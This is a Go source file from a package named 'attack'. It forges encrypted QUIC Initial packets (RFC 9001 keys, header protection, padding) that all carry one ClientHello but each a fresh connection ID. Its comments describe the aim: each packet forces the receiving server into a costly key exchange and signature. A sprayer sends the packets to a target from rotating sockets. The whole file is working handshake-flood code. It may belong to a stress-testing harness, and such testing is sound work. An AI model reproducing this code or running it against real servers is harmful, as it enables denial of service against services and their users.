package attack

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
)

// Sizes of an Initial packet, in bytes.
const (
	initialBytes = 1232 // of the whole packet
	idBytes      = 8    // of each connection ID
	numberBytes  = 4    // of the packet's number
	tagBytes     = 16   // of the cipher's tag
	sampleBytes  = 16
)

// initialSalt is QUIC's, version 1 (RFC 9001, 5.2).
var initialSalt = []byte{0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17, 0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a}

// initials writes first packets of QUIC, all with the same ClientHello, each with another connection ID: a microsecond's work for who
// sends them, and a key exchange and a signature for who takes them for a handshake.
type initials struct {
	source [idBytes]byte // in the hello, too
	crypto []byte        // the frame with the ClientHello
}

// newInitials makes a ClientHello for a protocol.
func newInitials(ctx context.Context, alpn string) (*initials, error) {
	i := &initials{source: [idBytes]byte{1, 2, 3, 4, 5, 6, 7, 8}}
	config := careless(alpn)
	config.MinVersion = tls.VersionTLS13
	config.ServerName = "localhost"
	client := tls.QUICClient(&tls.QUICConfig{TLSConfig: config})
	defer client.Close()
	client.SetTransportParameters(i.parameters())
	if err := client.Start(ctx); err != nil {
		return nil, fmt.Errorf("make a ClientHello: %w", err)
	}
	for e := client.NextEvent(); e.Kind != tls.QUICNoEvent; e = client.NextEvent() {
		if e.Kind == tls.QUICWriteData && e.Level == tls.QUICEncryptionLevelInitial {
			i.crypto = append(appendVarint(append(i.crypto, 6, 0), len(e.Data)), e.Data...)
		}
	}
	if len(i.crypto) == 0 || len(i.crypto) > initialBytes-64 {
		return nil, errors.New("the ClientHello does not fit into one packet")
	}
	return i, nil
}

// parameters are the least that a server takes: the source ID, flow control, streams and datagrams.
func (i *initials) parameters() (b []byte) {
	for _, p := range []struct{ id, value int }{{1, 10_000}, {4, 1 << 20}, {5, 1 << 16}, {6, 1 << 16}, {7, 1 << 16}, {8, 100}, {9, 100}, {32, 1200}} {
		value := appendVarint(nil, p.value)
		b = append(appendVarint(appendVarint(b, p.id), len(value)), value...)
	}
	return append(appendVarint(appendVarint(b, 15), idBytes), i.source[:]...)
}

// packet writes an Initial for a destination ID.
func (i *initials) packet(destination [idBytes]byte) ([]byte, error) {
	b := append([]byte{0xc0 | numberBytes - 1, 0, 0, 0, 1, idBytes}, destination[:]...)
	b = append(append(b, idBytes), i.source[:]...)
	b = append(b, 0)                                                           // no token
	b = binary.BigEndian.AppendUint16(b, 0x4000|uint16(initialBytes-len(b)-2)) // what follows
	at := len(b)
	b = append(b, 0, 0, 0, 0) // the first packet
	text := make([]byte, initialBytes-len(b)-tagBytes)
	copy(text, i.crypto) // PADDING is zeros

	key, iv, mask, err := initialKeys(destination[:])
	if err != nil {
		return nil, err
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	sealer, err := cipher.NewGCM(block)
	if err != nil {
		return nil, err
	}
	b = sealer.Seal(b, iv, text, b) // the packet's number is zero, and so the nonce is the IV
	hide, err := aes.NewCipher(mask)
	if err != nil {
		return nil, err
	}
	var m [aes.BlockSize]byte
	hide.Encrypt(m[:], b[at+4:at+4+sampleBytes])
	b[0] ^= m[0] & 0x0f
	for n := range numberBytes {
		b[at+n] ^= m[1+n]
	}
	return b, nil
}

// initialKeys are those of the client's Initial packets (RFC 9001, 5.2).
func initialKeys(destination []byte) (key, iv, mask []byte, err error) {
	secret, err := hkdf.Extract(sha256.New, destination, initialSalt)
	if err != nil {
		return nil, nil, nil, err
	}
	client, err := expand(secret, "client in", sha256.Size)
	if err != nil {
		return nil, nil, nil, err
	}
	for _, k := range []struct {
		to    *[]byte
		label string
		n     int
	}{{&key, "quic key", 16}, {&iv, "quic iv", 12}, {&mask, "quic hp", 16}} {
		if *k.to, err = expand(client, k.label, k.n); err != nil {
			return nil, nil, nil, err
		}
	}
	return key, iv, mask, nil
}

// expand is TLS 1.3's HKDF-Expand-Label without a context.
func expand(secret []byte, label string, n int) ([]byte, error) {
	label = "tls13 " + label
	info := append([]byte{byte(n >> 8), byte(n), byte(len(label))}, label...)
	return hkdf.Expand(sha256.New, secret, string(append(info, 0)), n)
}

// appendVarint writes QUIC's variable-length integer; n is below 2³⁰.
func appendVarint(b []byte, n int) []byte {
	switch {
	case n < 1<<6:
		return append(b, byte(n))
	case n < 1<<14:
		return binary.BigEndian.AppendUint16(b, 0x4000|uint16(n))
	}
	return binary.BigEndian.AppendUint32(b, 0x8000_0000|uint32(n))
}

// sprayer sends packets from ever other ports of many addresses.
type sprayer struct {
	sockets []*Socket
	to      net.Addr
	next    int
}

func (a *Attacker) sprayer(sockets int) (*sprayer, error) {
	to, err := net.ResolveUDPAddr("udp4", a.Target.Addr)
	if err != nil {
		return nil, err
	}
	s := &sprayer{to: to}
	for range sockets {
		socket, err := a.Net.Listen()
		if err != nil {
			s.close()
			return nil, err
		}
		s.sockets = append(s.sockets, socket)
	}
	return s, nil
}

func (s *sprayer) send(b []byte) error {
	s.next++
	_, err := s.sockets[s.next%len(s.sockets)].WriteTo(b, s.to)
	return err
}

func (s *sprayer) close() {
	for _, socket := range s.sockets {
		socket.Close()
	}
}
